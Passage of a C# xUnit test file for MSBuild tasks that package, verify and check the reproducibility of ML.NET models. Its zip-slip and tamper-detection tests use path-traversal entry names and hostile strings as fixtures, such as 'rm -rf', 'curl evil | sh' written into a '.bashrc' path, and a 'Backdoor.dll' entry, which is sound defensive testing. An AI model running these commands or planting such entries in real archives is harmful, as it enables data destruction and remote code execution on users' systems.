using System;
using System.Collections.Generic;
using System.IO;
using System.IO.Compression;
using System.Linq;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Microsoft.Build.Framework;
using MlOps.Build.Tasks.Models;
using MlOps.Build.Tasks.Runs;

namespace MlOps.Build.Tasks.Tests.Models
{
    /// <summary>
    /// The model content digest, zip-slip refusal, MlPack (PackMlModel), MlVerifyPackage (VerifyMlPackage) and the
    /// reproducibility check, on run folders written by hand. The packages are read back with System.IO.Compression
    /// and System.Text.Json, not with the tasks' own readers.
    /// </summary>
    public sealed class ModelPackageTests : IDisposable
    {
        private static readonly DateTimeOffset Monday = new(2026, 3, 2, 9, 30, 0, TimeSpan.Zero);
        private readonly TempFolder project = new();
        private readonly TestBuildEngine engine = new();

        public void Dispose() => project.Dispose();

        // ---- content digest -------------------------------------------------------------------------------

        [Fact]
        public void ContentDigest_IgnoresTimestampsOrderAndCompression_ButNotContent()
        {
            var first = WriteZip("a.zip", Monday, CompressionLevel.Optimal, ("Model/Weights.bin", "w1"), ("Schema/Schema.txt", "text"), ("Version.txt", "1"));
            var second = WriteZip("b.zip", Monday.AddDays(3), CompressionLevel.NoCompression, ("Version.txt", "1"), ("Schema/Schema.txt", "text"), ("Model/Weights.bin", "w1"));
            var changed = WriteZip("c.zip", Monday, CompressionLevel.Optimal, ("Model/Weights.bin", "w2"), ("Schema/Schema.txt", "text"), ("Version.txt", "1"));
            var renamed = WriteZip("d.zip", Monday, CompressionLevel.Optimal, ("Model/Weights2.bin", "w1"), ("Schema/Schema.txt", "text"), ("Version.txt", "1"));

            Assert.NotEqual(Sha256(first), Sha256(second));
            Assert.Equal(ModelArchive.ContentDigest(first), ModelArchive.ContentDigest(second));
            Assert.NotEqual(ModelArchive.ContentDigest(first), ModelArchive.ContentDigest(changed));
            Assert.NotEqual(ModelArchive.ContentDigest(first), ModelArchive.ContentDigest(renamed));
        }

        [Fact]
        public void ContentDigest_IsTheSha256OfSortedSha256SumLines_AsDocumented()
        {
            var zip = WriteZip("m.zip", Monday, CompressionLevel.Optimal, ("b.txt", "bee"), ("a/x.bin", "ax"), ("folder/", null));
            var expected = HexSha256(Encoding.UTF8.GetBytes(
                $"{HexSha256(Encoding.UTF8.GetBytes("ax"))}  a/x.bin\n{HexSha256(Encoding.UTF8.GetBytes("bee"))}  b.txt\n"));

            Assert.Equal(expected, ModelArchive.ContentDigest(zip));
        }

        [Fact]
        public void ContentDigest_OfAFileThatIsNotAZip_IsOneEntryNamedAfterTheFile()
        {
            var onnx = project.Write("model.onnx", "onnx-bytes");
            var expected = HexSha256(Encoding.UTF8.GetBytes($"{HexSha256(Encoding.UTF8.GetBytes("onnx-bytes"))}  model.onnx\n"));

            Assert.Equal(expected, ModelArchive.ContentDigest(onnx));
        }

        // ---- zip slip -------------------------------------------------------------------------------------

        [Theory]
        [InlineData("../evil.txt")]
        [InlineData("models/../../evil.txt")]
        [InlineData("/etc/passwd")]
        [InlineData("\\windows\\evil.dll")]
        [InlineData("C:/evil.txt")]
        [InlineData("models\\..\\evil.txt")]
        [InlineData("a//b")]
        [InlineData("./a")]
        [InlineData("a/\u0001b")]
        [InlineData("")]
        public void UnsafeEntryNames_AreRefused(string name) => Assert.NotNull(ModelArchive.Unsafe(name));

        [Theory]
        [InlineData("models/model.zip")]
        [InlineData("MODEL_CARD.md")]
        [InlineData("[Content_Types].xml")]
        [InlineData("_rels/.rels")]
        [InlineData("folder/")]
        [InlineData("a..b/c...txt")]
        [InlineData("données/modèle.zip")]
        public void SafeEntryNames_AreAccepted(string name) => Assert.Null(ModelArchive.Unsafe(name));

        [Fact]
        public void AZipWithADotDotEntry_IsRefusedBeforeAnyEntryIsRead()
        {
            var zip = WriteZip("slip.zip", Monday, CompressionLevel.Optimal, ("ok.txt", "fine"), ("../../outside.txt", "evil"));

            var error = Assert.Throws<UnsafeEntryException>(() => ModelArchive.ReadEntries(zip));
            Assert.Equal("../../outside.txt", error.EntryName);
            Assert.False(File.Exists(Path.Combine(project.Path, "..", "..", "outside.txt")));
        }

        [Fact]
        public void AZipWithTheSameNameTwice_IsRefused()
        {
            var zip = WriteZip("twice.zip", Monday, CompressionLevel.Optimal, ("Model/w.bin", "1"), ("model/W.bin", "2"));

            var error = Assert.Throws<UnsafeEntryException>(() => ModelArchive.ReadEntries(zip));
            Assert.Contains("twice", error.Message);
        }

        // ---- MlPack ---------------------------------------------------------------------------------------

        [Fact]
        public void Pack_TwiceAtDifferentTimesIntoDifferentFolders_GivesIdenticalBytes()
        {
            var run = FinishedRun("20260302-093000-000-aaaaaa");

            var first = Pack(outputDirectory: project.Combine("out1"));
            File.SetLastWriteTimeUtc(run.Model, DateTime.UtcNow.AddHours(-5));
            System.Threading.Thread.Sleep(1100);
            var second = Pack(outputDirectory: project.Combine("elsewhere/out2"));

            Assert.Equal(Path.GetFileName(first.PackagePath), Path.GetFileName(second.PackagePath));
            Assert.Equal(File.ReadAllBytes(first.PackagePath!), File.ReadAllBytes(second.PackagePath!));
            Assert.Equal("Trainer.Model.1.0.0-run.20260302-093000-000-aaaaaa.nupkg", Path.GetFileName(first.PackagePath));
            Assert.Equal(ModelArchive.ContentDigest(run.Model), first.ContentDigest);
        }

        [Fact]
        public void Pack_StampsEveryEntryWithTheCommitTime_OrSourceDateEpoch_SortedByName()
        {
            FinishedRun("20260302-093000-000-aaaaaa", commitTime: "2026-02-14T08:00:00.000Z");

            var byCommit = Pack(outputDirectory: project.Combine("a"));
            var byEpoch = Pack(outputDirectory: project.Combine("b"), sourceDateEpoch: "1700000000");

            using (var zip = ZipFile.OpenRead(byCommit.PackagePath!))
            {
                Assert.All(zip.Entries, e => Assert.Equal(new DateTime(2026, 2, 14, 8, 0, 0), e.LastWriteTime.DateTime));
                var names = zip.Entries.Select(e => e.FullName).ToList();
                Assert.Equal(names.OrderBy(n => n, StringComparer.Ordinal), names);
            }

            using (var zip = ZipFile.OpenRead(byEpoch.PackagePath!))
            {
                Assert.All(zip.Entries, e => Assert.Equal(new DateTime(2023, 11, 14, 22, 13, 20), e.LastWriteTime.DateTime));
            }
        }

        [Fact]
        public void Pack_ManifestAndPackage_AreByteIdenticalToTheGoldenFiles()
        {
            FinishedRun("20260302-093000-000-aaaaaa", commitTime: "2026-03-01T08:00:00Z");
            var packed = Pack(packageVersion: "2.1.0");

            using (var zip = ZipFile.OpenRead(packed.PackagePath!))
            {
                OutputBytesTests.AssertGolden("mlmodel.json", ReadBytes(zip, "mlmodel.json"));
            }

            OutputBytesTests.AssertGolden("Trainer.Model.2.1.0.nupkg.sha256", Encoding.ASCII.GetBytes(HexSha256(File.ReadAllBytes(packed.PackagePath!)) + "\n"));
        }

        [Fact]
        public void Pack_HoldsTheModel_Manifest_Card_NuspecAndConsumerTargets()
        {
            var run = FinishedRun("20260302-093000-000-aaaaaa");
            var packed = Pack(packageVersion: "2.1.0");

            using var zip = ZipFile.OpenRead(packed.PackagePath!);
            Assert.Equal(
                new[] { "MODEL_CARD.md", "Trainer.Model.nuspec", "[Content_Types].xml", "_rels/.rels", "build/Trainer.Model.targets", "buildTransitive/Trainer.Model.targets", "mlmodel.json", "models/model.zip" },
                zip.Entries.Select(e => e.FullName).ToArray());
            Assert.Equal(File.ReadAllBytes(run.Model), ReadBytes(zip, "models/model.zip"));

            using var manifest = JsonDocument.Parse(ReadBytes(zip, "mlmodel.json"));
            var root = manifest.RootElement;
            Assert.Equal("Trainer.Model", root.GetProperty("name").GetString());
            Assert.Equal("2.1.0", root.GetProperty("modelVersion").GetString());
            Assert.Equal(ModelArchive.ContentDigest(run.Model), root.GetProperty("contentDigest").GetString());
            Assert.Equal("5.0.1", root.GetProperty("mlnetVersion").GetString());
            Assert.Equal("20260302-093000-000-aaaaaa", root.GetProperty("run").GetProperty("id").GetString());
            Assert.Equal("0123abcd", root.GetProperty("run").GetProperty("git").GetProperty("commit").GetString());
            Assert.Equal("Train", root.GetProperty("datasetLock").GetProperty("datasets").EnumerateObject().Single().Name);
            var model = root.GetProperty("models").EnumerateArray().Single();
            Assert.Equal("models/model.zip", model.GetProperty("path").GetString());
            Assert.Equal(Sha256(run.Model), model.GetProperty("sha256").GetString());
            Assert.Equal("Text", model.GetProperty("inputs")[0].GetProperty("name").GetString());
            Assert.Equal("Vector<Single, 4>", model.GetProperty("outputs")[1].GetProperty("type").GetString());

            // Every entry but the manifest is listed with its real SHA-256.
            var files = root.GetProperty("files").EnumerateArray().ToDictionary(f => f.GetProperty("path").GetString()!, f => f.GetProperty("sha256").GetString());
            Assert.Equal(zip.Entries.Select(e => e.FullName).Where(n => n != "mlmodel.json").OrderBy(n => n, StringComparer.Ordinal), files.Keys.OrderBy(n => n, StringComparer.Ordinal));
            foreach (var entry in zip.Entries.Where(e => e.FullName != "mlmodel.json"))
            {
                Assert.Equal(HexSha256(ReadBytes(zip, entry.FullName)), files[entry.FullName]);
            }

            var card = Encoding.UTF8.GetString(ReadBytes(zip, "MODEL_CARD.md"));
            foreach (var section in new[] { "## Model details", "## Intended use", "## Factors", "## Metrics", "## Evaluation data", "## Training data", "## Quantitative analyses", "## Ethical considerations", "## Caveats and recommendations" })
            {
                Assert.Contains(section, card);
            }

            Assert.Contains("Classifies reviews.", card);
            Assert.Contains("_Not stated: set the `MlModelFactors` property", card);
            Assert.Contains("| Accuracy | 0.93 |", card);
            Assert.Contains("| LearningRate | 0.1 |", card);
            Assert.Contains("| ApiKey | *** |", card);
            Assert.Contains(ModelArchive.ContentDigest(run.Model), card);
            Assert.Contains("commit `0123abcd`", card);

            var nuspec = Encoding.UTF8.GetString(ReadBytes(zip, "Trainer.Model.nuspec"));
            Assert.Contains("<version>2.1.0</version>", nuspec);
            Assert.Contains("<readme>MODEL_CARD.md</readme>", nuspec);
            Assert.Contains("url=\"https://example.com/org/trainer.git\" commit=\"0123abcd\"", nuspec);
            Assert.DoesNotContain("password", nuspec);

            var targets = Encoding.UTF8.GetString(ReadBytes(zip, "buildTransitive/Trainer.Model.targets"));
            Assert.Contains(Sha256(run.Model), targets);
            Assert.Contains("Link=\"Trainer.Model/model.zip\"", targets);
            Assert.Contains("MLOPS514", targets);
        }

        [Fact]
        public void Pack_AModelSavedOutsideTheRunFolder_GoesInUnderItsFileName()
        {
            var run = FinishedRun("20260302-093000-000-aaaaaa");
            var outside = project.Combine("bin/Debug/net10.0/model.zip");
            Directory.CreateDirectory(Path.GetDirectoryName(outside)!);
            File.Move(run.Model, outside);
            var recordPath = Path.Combine(run.Directory, "run.json");
            File.WriteAllText(recordPath, File.ReadAllText(recordPath).Replace("\"path\": \"model.zip\"", "\"path\": \"bin/Debug/net10.0/model.zip\""));

            var packed = Pack();

            using var zip = ZipFile.OpenRead(packed.PackagePath!);
            Assert.NotNull(zip.GetEntry("models/model.zip"));
            Assert.DoesNotContain(zip.Entries, e => e.FullName.Contains("bin/", StringComparison.Ordinal));
        }

        [Fact]
        public void Pack_WithoutRunId_TakesTheNewestFinishedRunWithAModel()
        {
            FinishedRun("20260302-093000-000-aaaaaa");
            FinishedRun("20260303-093000-000-bbbbbb");
            FinishedRun("20260304-093000-000-cccccc", status: "failed");
            FinishedRun("20260305-093000-000-dddddd", withModel: false);

            var packed = Pack();

            Assert.Equal("20260303-093000-000-bbbbbb", packed.PackedRunId);
            Assert.Equal("1.0.0-run.20260303-093000-000-bbbbbb", packed.PackedVersion);
        }

        [Fact]
        public void Pack_ARunIdThatIsMissing_Failed_OrNotAFolderName_FailsWithMLOPS510()
        {
            FinishedRun("20260304-093000-000-cccccc", status: "failed");

            Assert.Contains("no run 20990101", PackError(runId: "20990101-000000-000-000000"));
            Assert.Contains("is failed, not finished", PackError(runId: "20260304-093000-000-cccccc"));
            Assert.Contains("is not a run id", PackError(runId: "../20260304-093000-000-cccccc"));
        }

        [Fact]
        public void Pack_NoRunAtAll_SaysHowToTrain()
        {
            Assert.Contains("dotnet build -t:MlTrain", PackError());
        }

        [Fact]
        public void Pack_AModelChangedAfterItsRun_IsRefused()
        {
            var run = FinishedRun("20260302-093000-000-aaaaaa");
            File.AppendAllText(run.Model, "tampered");

            var message = PackError();
            Assert.Contains("changed after run 20260302-093000-000-aaaaaa ended", message);
            Assert.Empty(Directory.Exists(project.Combine("out")) ? Directory.GetFiles(project.Combine("out")) : Array.Empty<string>());
        }

        [Fact]
        public void Pack_WithTheContentDigestTheRunRecorded_WritesTheSamePackage_WithoutInflatingTheModel()
        {
            // The SDK records the content digest when the run ends; MlPack takes it from there (after checking the
            // file's SHA-256) instead of inflating every entry again: the same digest and model card (entry count
            // included) as computing it; the manifest differs only by the record it embeds.
            var run = FinishedRun("20260302-093000-000-aaaaaa");
            var computed = Pack(outputDirectory: project.Combine("computed"));
            var digest = ModelArchive.ContentDigest(run.Model);
            File.Delete(run.Model);
            FinishedRun("20260302-093000-000-aaaaaa", recordedDigest: digest.ToUpperInvariant());

            var recorded = Pack(outputDirectory: project.Combine("recorded"));

            Assert.Equal(digest, computed.ContentDigest);
            Assert.Equal(digest, recorded.ContentDigest);
            using (var a = ZipFile.OpenRead(computed.PackagePath!))
            using (var b = ZipFile.OpenRead(recorded.PackagePath!))
            {
                Assert.Equal(ReadBytes(a, "MODEL_CARD.md"), ReadBytes(b, "MODEL_CARD.md"));
                Assert.Equal(ReadBytes(a, "models/model.zip"), ReadBytes(b, "models/model.zip"));
                using var manifest = JsonDocument.Parse(ReadBytes(b, "mlmodel.json"));
                Assert.Equal(digest, manifest.RootElement.GetProperty("contentDigest").GetString());
                Assert.Equal(digest, manifest.RootElement.GetProperty("models")[0].GetProperty("contentDigest").GetString());
            }

            var verify = new VerifyMlPackage { BuildEngine = engine, PackagePath = recorded.PackagePath! };
            Assert.True(verify.Execute(), engine.Log);
            Assert.Equal(recorded.ContentDigest, verify.ContentDigest);
        }

        [Fact]
        public void Pack_TakesTheDigestFromTheRecord_AndMlVerifyPackageRecomputesIt()
        {
            // A record edited by hand (the model's SHA-256 kept, another digest) gives a package that fails verification.
            FinishedRun("20260302-093000-000-aaaaaa", recordedDigest: new string('c', 64));

            var packed = Pack();

            Assert.Equal(new string('c', 64), packed.ContentDigest);
            var verify = new VerifyMlPackage { BuildEngine = engine, PackagePath = packed.PackagePath! };
            Assert.False(verify.Execute());
            var error = Assert.Single(engine.Errors);
            Assert.Equal("MLOPS511", error.Code);
            Assert.Contains("has the content digest", error.Message);
        }

        [Fact]
        public void Pack_WithARecordedDigest_StillRefusesAZipSlipEntry()
        {
            var run = FinishedRun("20260302-093000-000-aaaaaa", modelEntries: new[] { ("Model/w.bin", "w"), ("../../../evil.sh", "rm -rf") }, recordedDigest: new string('c', 64));

            var task = PackTask();
            Assert.False(task.Execute());
            var error = Assert.Single(engine.Errors);
            Assert.Equal("MLOPS512", error.Code);
            Assert.Contains("../../../evil.sh", error.Message);
            Assert.Equal(run.Model, error.File);
        }

        [Fact]
        public void Pack_WithARecordedValueThatIsNoDigest_ComputesIt()
        {
            var run = FinishedRun("20260302-093000-000-aaaaaa", recordedDigest: "not-a-digest");

            var packed = Pack();

            Assert.Equal(ModelArchive.ContentDigest(run.Model), packed.ContentDigest);
        }

        [Fact]
        public void Pack_AModelThatIsNotAZip_HasTheDigestOfOneEntryNamedAfterTheFile()
        {
            var run = FinishedRun("20260302-093000-000-aaaaaa", modelName: "model.onnx", rawModel: "onnx-bytes");

            var packed = Pack();

            var expected = HexSha256(Encoding.UTF8.GetBytes($"{HexSha256(Encoding.UTF8.GetBytes("onnx-bytes"))}  model.onnx\n"));
            Assert.Equal(expected, packed.ContentDigest);
            Assert.Equal(ModelArchive.ContentDigest(run.Model), packed.ContentDigest);
            using var zip = ZipFile.OpenRead(packed.PackagePath!);
            Assert.Equal("onnx-bytes", Encoding.UTF8.GetString(ReadBytes(zip, "models/model.onnx")));
        }

        [Theory]
        [InlineData("Bad Id", null)]
        [InlineData("Trainer.Model", "1.0")]
        [InlineData("Trainer.Model", "v1.0.0")]
        [InlineData("Trainer.Model", "1.0.0-beta..1")]
        public void Pack_InvalidIdOrVersion_FailsWithMLOPS510(string id, string? version)
        {
            FinishedRun("20260302-093000-000-aaaaaa");

            Assert.Contains("not a valid package", PackError(packageId: id, packageVersion: version));
        }

        [Fact]
        public void Pack_AModelZipWithAZipSlipEntry_IsRefusedWithMLOPS512()
        {
            var run = FinishedRun("20260302-093000-000-aaaaaa", modelEntries: new[] { ("Model/w.bin", "w"), ("../../../evil.sh", "rm -rf") });

            var task = PackTask();
            Assert.False(task.Execute());
            var error = Assert.Single(engine.Errors);
            Assert.Equal("MLOPS512", error.Code);
            Assert.Contains("../../../evil.sh", error.Message);
            Assert.Equal(run.Model, error.File);
        }

        [Fact]
        public void Pack_OverAnIdenticalPackage_LeavesItUntouched_AndOverAReadOnlyOne_FailsCleanly()
        {
            FinishedRun("20260302-093000-000-aaaaaa");
            var first = Pack();
            var stamp = DateTime.UtcNow.AddDays(-1);
            File.SetLastWriteTimeUtc(first.PackagePath!, stamp);

            Pack();
            Assert.Equal(stamp, File.GetLastWriteTimeUtc(first.PackagePath!));
            Assert.Contains("(unchanged)", engine.Log);

            var bytes = File.ReadAllBytes(first.PackagePath!);
            File.SetAttributes(first.PackagePath!, FileAttributes.ReadOnly);
            try
            {
                Assert.Contains("cannot write the package", PackErrorOverReadOnly(first.PackagePath!));
                Assert.Equal(bytes, File.ReadAllBytes(first.PackagePath!));
            }
            finally
            {
                File.SetAttributes(first.PackagePath!, FileAttributes.Normal);
            }
        }

        // ---- MlVerifyPackage ------------------------------------------------------------------------------

        [Fact]
        public void Verify_AFreshPackage_Passes_WithTheContentDigest()
        {
            var run = FinishedRun("20260302-093000-000-aaaaaa");
            var packed = Pack();

            var verify = new VerifyMlPackage { BuildEngine = engine, PackagePath = packed.PackagePath! };
            Assert.True(verify.Execute(), engine.Log);
            Assert.Equal(ModelArchive.ContentDigest(run.Model), verify.ContentDigest);
        }

        [Fact]
        public void Verify_AnAlteredEntry_FailsNamingIt()
        {
            FinishedRun("20260302-093000-000-aaaaaa");
            var tampered = Rewrite(Pack().PackagePath!, "altered.nupkg", replace: ("models/model.zip", TamperedModel()));

            var errors = VerifyErrors(tampered);
            var error = Assert.Single(errors);
            Assert.Equal("MLOPS511", error.Code);
            Assert.Contains("entry 'models/model.zip' was altered", error.Message);
        }

        [Fact]
        public void Verify_AMissingEntry_FailsNamingIt()
        {
            FinishedRun("20260302-093000-000-aaaaaa");
            var tampered = Rewrite(Pack().PackagePath!, "missing.nupkg", remove: "MODEL_CARD.md");

            var error = Assert.Single(VerifyErrors(tampered));
            Assert.Equal("MLOPS511", error.Code);
            Assert.Contains("entry 'MODEL_CARD.md' is missing", error.Message);
        }

        [Fact]
        public void Verify_AnExtraEntry_FailsNamingIt_ButASignatureIsAllowed()
        {
            FinishedRun("20260302-093000-000-aaaaaa");
            var packed = Pack().PackagePath!;
            var tampered = Rewrite(packed, "extra.nupkg", add: ("lib/net8.0/Backdoor.dll", new byte[] { 1, 2, 3 }));
            var signed = Rewrite(packed, "signed.nupkg", add: (".signature.p7s", new byte[] { 4, 5, 6 }));

            var error = Assert.Single(VerifyErrors(tampered));
            Assert.Equal("MLOPS511", error.Code);
            Assert.Contains("entry 'lib/net8.0/Backdoor.dll' is extra", error.Message);
            Assert.Empty(VerifyErrors(signed));
        }

        [Fact]
        public void Verify_SeveralProblems_AreEachReported()
        {
            FinishedRun("20260302-093000-000-aaaaaa");
            var once = Rewrite(Pack().PackagePath!, "one.nupkg", replace: ("models/model.zip", TamperedModel()), remove: "_rels/.rels");
            var twice = Rewrite(once, "two.nupkg", add: ("notes.txt", new byte[] { 1 }));

            var messages = VerifyErrors(twice).Select(e => e.Message ?? string.Empty).ToList();
            Assert.Equal(3, messages.Count(m => m.StartsWith("entry '", StringComparison.Ordinal)));
            Assert.Contains(messages, m => m.Contains("'models/model.zip' was altered"));
            Assert.Contains(messages, m => m.Contains("'_rels/.rels' is missing"));
            Assert.Contains(messages, m => m.Contains("'notes.txt' is extra"));
        }

        [Fact]
        public void Verify_APackageWithAZipSlipEntry_IsRefusedWithMLOPS512()
        {
            FinishedRun("20260302-093000-000-aaaaaa");
            var tampered = Rewrite(Pack().PackagePath!, "slip.nupkg", add: ("../../../.bashrc", Encoding.UTF8.GetBytes("curl evil | sh")));

            var error = Assert.Single(VerifyErrors(tampered));
            Assert.Equal("MLOPS512", error.Code);
            Assert.Contains("'../../../.bashrc'", error.Message);
        }

        [Fact]
        public void Verify_NoManifest_NotAZip_OrNoFile_FailCleanly()
        {
            FinishedRun("20260302-093000-000-aaaaaa");
            var noManifest = Rewrite(Pack().PackagePath!, "nomanifest.nupkg", remove: "mlmodel.json");
            var notZip = project.Write("notzip.nupkg", "this is not a zip");

            Assert.Contains("has no mlmodel.json", Assert.Single(VerifyErrors(noManifest)).Message);
            Assert.Equal("MLOPS512", Assert.Single(VerifyErrors(notZip)).Code);
            Assert.Contains("does not exist", Assert.Single(VerifyErrors(project.Combine("nothing.nupkg"))).Message);
        }

        // ---- reproducibility ------------------------------------------------------------------------------

        [Fact]
        public void Reproducibility_SameEntriesSavedAtDifferentTimes_IsReproducible()
        {
            var a = WriteZip("one/model.zip", Monday, CompressionLevel.Optimal, ("Model/w.bin", "w"), ("Version.txt", "1"));
            var b = WriteZip("two/model.zip", Monday.AddMinutes(5), CompressionLevel.Optimal, ("Model/w.bin", "w"), ("Version.txt", "1"));

            Assert.True(Check(a, b), engine.Log);
            Assert.Contains(engine.MessagesOf(MessageImportance.High), m => m.Contains("reproducible: runs one and two produced the same model model.zip") && m.Contains("differ only in zip timestamps"));
        }

        [Fact]
        public void Reproducibility_DifferentWeights_FailsWithMLOPS513_NamingTheEntryAndTheCauses()
        {
            var a = WriteZip("one/model.zip", Monday, CompressionLevel.Optimal, ("Model/w.bin", "w1"), ("Version.txt", "1"), ("TrainingInfo/a.txt", "x"));
            var b = WriteZip("two/model.zip", Monday, CompressionLevel.Optimal, ("Model/w.bin", "w2"), ("Version.txt", "1"));

            Assert.False(Check(a, b));
            var error = Assert.Single(engine.Errors);
            Assert.Equal("MLOPS513", error.Code);
            Assert.Contains("Entries that differ: Model/w.bin.", error.Message);
            Assert.Contains("Only in the first: TrainingInfo/a.txt.", error.Message);
            Assert.Contains("MLOPS101", error.Message);
            Assert.Contains("NumberOfThreads", error.Message);
        }

        [Fact]
        public void Reproducibility_AModelBothRunsWroteToOneFileOutsideTheirFolders_CannotBeCompared()
        {
            var shared = WriteZip("model.zip", Monday, CompressionLevel.Optimal, ("Model/w.bin", "w"));
            var digest = ModelArchive.ContentDigest(shared);
            var first = new RunRecord { Models = new[] { new RunModel(shared, 1, Sha256(shared), digest) } };
            var second = new RunRecord { Models = new[] { new RunModel(shared, 1, Sha256(shared), digest) } };

            Assert.False(Reproducibility.Check(Logger(), "p.csproj", new ReproducibilityRun("one", project.Combine("one"), first), new ReproducibilityRun("two", project.Combine("two"), second)));
            Assert.Contains("the second overwrote the first", Assert.Single(engine.Errors).Message);
        }

        [Theory]
        [InlineData(false)]
        [InlineData(true)]
        public void MlTrainWithVerifyReproducible_TrainsTwiceInFreshFolders_AndComparesTheModels(bool sameWeights)
        {
            // The "program" copies one of two prepared model zips into its run folder: the first run the first zip,
            // later runs the second. Saved a minute apart, as ML.NET would; the weights differ or not.
            WriteZip("saved/first.zip", Monday, CompressionLevel.Optimal, ("Model/w.bin", "w"), ("Version.txt", "1"));
            WriteZip("saved/second.zip", Monday.AddMinutes(1), CompressionLevel.Optimal, ("Model/w.bin", sameWeights ? "w" : "other"), ("Version.txt", "1"));
            var count = project.Combine("count");
            var script =
                $"if [ -f \"{count}\" ]; then cp \"{project.Combine("saved/second.zip")}\" \"$MLOPS_RUN_DIR/model.zip\"; "
                + $"else touch \"{count}\"; cp \"{project.Combine("saved/first.zip")}\" \"$MLOPS_RUN_DIR/model.zip\"; fi\n"
                + "printf '{\"path\":\"%s\"}\\n' \"$MLOPS_RUN_DIR/model.zip\" > \"$MLOPS_RUN_DIR/models.jsonl\"\n";
            var task = new RunMlTraining
            {
                BuildEngine = engine,
                ProjectDirectory = project.Path,
                ProjectFile = project.Combine("Trainer.csproj"),
                ProjectName = "Trainer",
                RunsDirectory = project.Combine("runs"),
                Command = "/bin/sh",
                CommandArguments = "-c " + ChildProcess.JoinArguments(new[] { script }),
                VerifyReproducible = true,
                WriteReport = false,
            };

            Assert.Equal(sameWeights, task.Execute());
            Assert.NotNull(task.SecondRunId);
            Assert.NotEqual(task.RunId, task.SecondRunId);
            Assert.Equal(2, Directory.GetDirectories(project.Combine("runs")).Length);
            Assert.EndsWith(task.RunId!, task.RunDirectory);
            if (sameWeights)
            {
                Assert.Empty(engine.Errors);
                Assert.Contains(engine.MessagesOf(MessageImportance.High), m => m.StartsWith($"MlOps.Sdk: reproducible: runs {task.RunId} and {task.SecondRunId}", StringComparison.Ordinal));
            }
            else
            {
                var error = Assert.Single(engine.Errors);
                Assert.Equal("MLOPS513", error.Code);
                Assert.Contains("Entries that differ: Model/w.bin.", error.Message);
            }
        }

        // ---- helpers --------------------------------------------------------------------------------------

        private bool Check(string firstModel, string secondModel)
        {
            RunRecord Record(string path) => new()
            {
                Models = new[] { new RunModel("model.zip", new FileInfo(path).Length, Sha256(path), ModelArchive.ContentDigest(path)) },
            };

            return Reproducibility.Check(
                Logger(),
                "p.csproj",
                new ReproducibilityRun("one", Path.GetDirectoryName(firstModel)!, Record(firstModel)),
                new ReproducibilityRun("two", Path.GetDirectoryName(secondModel)!, Record(secondModel)));
        }

        private Microsoft.Build.Utilities.TaskLoggingHelper Logger() =>
            new(engine, "test");

        private sealed record Run(string Directory, string Model);

        private Run FinishedRun(string id, string status = "finished", bool withModel = true, string? commitTime = null, (string Name, string Content)[]? modelEntries = null, string? recordedDigest = null, string modelName = "model.zip", string? rawModel = null)
        {
            var directory = project.Combine("runs/" + id);
            Directory.CreateDirectory(directory);
            var model = Path.Combine(directory, modelName);
            if (withModel && rawModel is not null)
            {
                File.WriteAllText(model, rawModel);
            }
            else if (withModel)
            {
                WriteZipAt(model, Monday, CompressionLevel.Optimal, (modelEntries ?? new[] { ("Model/w.bin", "weights-" + id), ("Version.txt", "1.0") }).Select(e => (e.Item1, (string?)e.Item2)).ToArray());
            }

            var record = new RunRecord
            {
                Id = id,
                Status = status,
                Start = new DateTime(2026, 3, 2, 9, 30, 0, DateTimeKind.Utc),
                End = new DateTime(2026, 3, 2, 9, 31, 0, DateTimeKind.Utc),
                ProjectName = "Trainer",
                Git = new GitState
                {
                    Commit = "0123abcd",
                    CommitTime = commitTime is null ? null : DateTime.Parse(commitTime, null, System.Globalization.DateTimeStyles.AdjustToUniversal),
                    RepositoryUrl = "https://example.com/org/trainer.git",
                    Dirty = false,
                },
                Packages = new SortedDictionary<string, string>(StringComparer.OrdinalIgnoreCase) { ["Microsoft.ML"] = "5.0.1" },
                Datasets = new[] { new RunDataset("Train", new string('a', 64), 1, 10) },
                Parameters = new SortedDictionary<string, string>(StringComparer.Ordinal) { ["ApiKey"] = "***", ["LearningRate"] = "0.1" },
                Metrics = new SortedDictionary<string, double>(StringComparer.Ordinal) { ["Accuracy"] = 0.93 },
                Models = withModel
                    ? new[] { new RunModel(modelName, new FileInfo(model).Length, Sha256(model), recordedDigest, new[] { new ModelColumn("Text", "String") }, new[] { new ModelColumn("Text", "String"), new ModelColumn("Features", "Vector<Single, 4>") }) }
                    : Array.Empty<RunModel>(),
            };
            File.WriteAllText(Path.Combine(directory, "run.json"), record.Serialize());
            File.WriteAllText(Path.Combine(directory, "mldatasets.lock.json"), "{\n  \"version\": 1,\n  \"datasets\": {\n    \"Train\": {\n      \"sha256\": \"" + new string('a', 64) + "\",\n      \"files\": []\n    }\n  }\n}\n");
            return new Run(directory, model);
        }

        private PackMlModel PackTask(string? runId = null, string packageId = "Trainer.Model", string? packageVersion = null, string? outputDirectory = null, string? sourceDateEpoch = null) => new()
        {
            BuildEngine = engine,
            RunsDirectory = project.Combine("runs"),
            ProjectDirectory = project.Path,
            ProjectFile = project.Combine("Trainer.csproj"),
            RunId = runId,
            PackageId = packageId,
            PackageVersion = packageVersion,
            VersionPrefix = "1.0.0",
            Authors = "Tests",
            IntendedUse = "Classifies reviews.",
            OutputDirectory = outputDirectory ?? project.Combine("out"),
            SourceDateEpoch = sourceDateEpoch,
        };

        private PackMlModel Pack(string? runId = null, string? packageVersion = null, string? outputDirectory = null, string? sourceDateEpoch = null)
        {
            var task = PackTask(runId, packageVersion: packageVersion, outputDirectory: outputDirectory, sourceDateEpoch: sourceDateEpoch);
            Assert.True(task.Execute(), engine.Log);
            Assert.True(File.Exists(task.PackagePath));
            return task;
        }

        private string PackError(string? runId = null, string packageId = "Trainer.Model", string? packageVersion = null)
        {
            engine.Errors.Clear();
            var task = PackTask(runId, packageId, packageVersion);
            Assert.False(task.Execute());
            var error = Assert.Single(engine.Errors);
            Assert.Equal("MLOPS510", error.Code);
            Assert.Null(task.PackagePath);
            return error.Message ?? string.Empty;
        }

        private string PackErrorOverReadOnly(string existing)
        {
            engine.Errors.Clear();
            var task = PackTask(packageVersion: null, outputDirectory: Path.GetDirectoryName(existing));
            // Same id and version as the existing package, but different bytes: a newer SOURCE_DATE_EPOCH.
            task.SourceDateEpoch = "1800000000";
            Assert.False(task.Execute());
            var error = Assert.Single(engine.Errors);
            Assert.Equal("MLOPS510", error.Code);
            return error.Message ?? string.Empty;
        }

        private List<BuildErrorEventArgs> VerifyErrors(string package)
        {
            engine.Errors.Clear();
            var task = new VerifyMlPackage { BuildEngine = engine, PackagePath = package };
            var verified = task.Execute();
            Assert.Equal(engine.Errors.Count == 0, verified);
            return engine.Errors.ToList();
        }

        private byte[] TamperedModel()
        {
